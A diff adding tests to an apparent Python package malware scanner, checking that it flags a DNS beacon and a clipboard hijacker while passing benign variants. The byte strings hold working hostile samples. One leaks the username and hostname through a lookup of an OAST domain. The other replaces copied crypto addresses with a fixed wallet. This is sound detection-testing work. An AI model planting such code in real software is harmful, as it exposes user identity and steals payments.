@@ -133,3 +133,48 @@ def test_custody_exfil_from_the_features_evidence() -> None:
     archive = open_archive(sdist({"demo/client.py": honest}), target="d", filename="demo-1.0.tar.gz")
     features = extract_features(archive)
     assert feature_findings(features) == () and token_findings(features.code_text) == ()
+
+
+def test_dns_beacon_from_the_features_evidence() -> None:
+    from vetpy.features.extract import extract_features
+    from vetpy.policy import feature_findings, token_findings
+
+    probe = (
+        b"import socket, getpass\n\n\ndef ping():\n"
+        b"    host = getpass.getuser() + '.' + socket.gethostname() + '.abc123.oast.fun'\n"
+        b"    socket.gethostbyname(host)\n"
+    )
+    archive = open_archive(sdist({"demo/util.py": probe}), target="d", filename="demo-1.0.tar.gz")
+    features = extract_features(archive)
+    [finding] = feature_findings(features)
+    assert token_findings(features.code_text) == ("dns_beacon",)
+    assert (finding.kind, finding.file, finding.line) == ("dns_beacon", "demo-1.0/demo/util.py", 6)
+    assert "getpass.getuser, line 5" in finding.message and "abc123.oast.fun (oast)" in finding.message
+    # the same name under a placeholder domain: a flow for the model, no finding
+    honest = probe.replace(b".abc123.oast.fun", b".corp.example.net")
+    archive = open_archive(sdist({"demo/util.py": honest}), target="d", filename="demo-1.0.tar.gz")
+    features = extract_features(archive)
+    assert feature_findings(features) == () and token_findings(features.code_text) == ()
+
+
+def test_clipboard_hijack_from_the_features_evidence() -> None:
+    from vetpy.features.extract import extract_features
+    from vetpy.policy import feature_findings, token_findings
+
+    clipper = (
+        b"import re, pyperclip\n\n\ndef watch():\n"
+        b"    text = pyperclip.paste()\n"
+        b"    if re.match(r'^0x[a-fA-F0-9]{40}$', text):\n"
+        b"        pyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')\n"
+    )
+    archive = open_archive(sdist({"demo/watch.py": clipper}), target="d", filename="demo-1.0.tar.gz")
+    features = extract_features(archive)
+    [finding] = feature_findings(features)
+    assert token_findings(features.code_text) == ("clipboard_hijack",)
+    assert (finding.kind, finding.file, finding.line) == ("clipboard_hijack", "demo-1.0/demo/watch.py", 7)
+    # the copy of what was pasted, upper-cased: a clipboard manager
+    honest = clipper.replace(b"'0x52908400098527886E0F7030069857D2E4169EE7'", b"text.upper()")
+    honest = honest.replace(b"r'^0x[a-fA-F0-9]{40}$'", b"r'^[a-z]+$'")
+    archive = open_archive(sdist({"demo/watch.py": honest}), target="d", filename="demo-1.0.tar.gz")
+    features = extract_features(archive)
+    assert feature_findings(features) == () and token_findings(features.code_text) == ()
